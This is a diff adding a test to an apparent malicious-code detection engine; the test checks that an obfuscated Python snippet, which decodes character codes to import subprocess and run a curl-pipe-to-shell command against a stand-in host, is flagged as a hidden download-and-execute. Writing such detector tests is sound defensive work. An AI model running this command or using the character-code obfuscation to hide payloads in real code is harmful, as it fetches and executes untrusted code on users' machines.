@@ -172,6 +172,25 @@ def test_numbers_split_into_short_runs_or_written_in_hex_are_read(
     assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
 
 
+def test_a_decoder_called_on_short_runs_is_read_as_the_strings_it_returns(
+    engine: Engine,
+) -> None:
+    """Names and a command each spelled by a call of the file's decoder, the command
+    joined from pieces: the file as it reads when it runs."""
+
+    def codes(text: str) -> str:
+        return f"_L({', '.join(str(ord(c)) for c in text)})"
+
+    code = (
+        "_L = lambda *c: ''.join(map(chr, c))\n\n"
+        f"_s = __import__({codes('subprocess')})\n"
+        f"_cmd = {codes('curl')} + ' -fsS ' + {codes('https://')} + 'x.example.net/j.sh | sh'\n"
+        f"getattr(_s, {codes('Popen')})(_cmd, shell=True)\n"
+    )
+    labels = _rules(_module(engine, code))
+    assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
+
+
 #: A workflow a worm writes into every repository it reaches, kept in base64.
 WORKFLOW = (
     "on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n"
